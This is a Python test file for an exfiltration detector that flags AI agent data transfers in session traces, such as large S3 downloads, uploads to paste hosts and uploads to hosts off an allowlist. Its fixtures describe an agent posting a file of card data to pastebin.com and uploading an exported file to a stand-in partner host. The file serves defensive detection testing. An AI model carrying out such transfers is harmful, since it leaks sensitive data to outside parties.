"""Exfiltration: one finding per transfer, with bytes, origin and destination."""

from agent_builders import config, network, run, tool_call

from tracehound.model import Event, line_ref


def flow(step, bytes_out, *, src=None, dest="agent-runtime", url=None, line=None):
    from agent_builders import sha, at
    attrs = {"tool_call_id": f"call-{step}", "dest_host": dest, "src_host": src, "url": url}
    return Event(ref=line_ref(sha("network"), line or step), source="agent:network",
                 time=at(step * 10), action="egress-flow", session="sess-1", step=step,
                 bytes_out=bytes_out, attrs={k: v for k, v in attrs.items() if v})


def test_large_download_out_of_cloud_storage():
    events = [config(actions=["list"]),
              tool_call(3, "aws.s3.get-object", "s3://payments/exports/claims.csv"),
              flow(3, 4_837_652, src="payments.s3.us-east-1.amazonaws.com",
                   url="https://payments.s3.us-east-1.amazonaws.com/exports/claims.csv"),
              tool_call(4, "aws.s3.list-buckets"), flow(4, 9_000, src="s3.amazonaws.com")]
    [found] = run("exfiltration-detector", events)
    assert (found.step, found.severity, found.details["bytes"]) == (3, "critical", 4_837_652)
    assert found.statement == (
        "4,837,652 bytes of s3://payments/exports/claims.csv moved from "
        "payments.s3.us-east-1.amazonaws.com to agent-runtime at step 3 (aws.s3.get-object on "
        "s3://payments/exports/claims.csv): 4,837,652 bytes is at or above the 1,048,576-byte "
        "exfiltration threshold; the data came out of cloud storage; the step is outside the "
        "allowed envelope; sensitive object name claims.csv.")
    assert found.techniques == ("T1530",)
    assert [r.locator for r in found.refs] == ["line 3", "line 3"]


def test_threshold_setting_paste_hosts_allowlist_and_staging():
    events = [tool_call(1, "read_file", "/srv/exports/q1.csv", args={"path": "/srv/exports/q1.csv"},
                        result="id,card\n1,4111111111111111\n"),
              tool_call(2, "http.post", "https://pastebin.com/api",
                        args={"url": "https://pastebin.com/api"}, bytes_out=900),
              tool_call(3, "http.post", "https://uploads.partner.example/in",
                        args={"url": "https://uploads.partner.example/in",
                              "file": "/srv/exports/q1.csv"}, bytes_out=700),
              tool_call(4, "http.post", "https://api.github.com/x", bytes_out=300)]
    found = run("exfiltration-detector", events, egress_allowlist=["api.github.com"])
    assert [(f.step, f.severity, f.details["reasons"]) for f in found] == [
        (2, "high", ["paste or file-drop host pastebin.com"]),
        (3, "high", ["carries the file /srv/exports/q1.csv read at step 1",
                     "destination uploads.partner.example is not on the egress allowlist"])]
    # the upload cites the read whose content it carries
    assert [r.locator for r in found[1].refs] == ["line 3", "line 1"]
    big = run("exfiltration-detector", [tool_call(1, "http.post", "https://x.example",
                                                  bytes_out=2_000_000)], exfil_bytes=1_000_000)
    assert [f.severity for f in big] == ["high"]


def test_benign_small_transfers_are_not_findings():
    events = [tool_call(1, "aws.s3.list-buckets"), network(1, 4_000, "s3.amazonaws.com"),
              tool_call(2, "http.post", "https://api.github.com/repos/x/issues", bytes_out=800),
              tool_call(3, "fetch_url", "https://registry.npmjs.org/left-pad"),
              flow(3, 3_000_000, src="registry.npmjs.org")]
    assert run("exfiltration-detector", events) == []
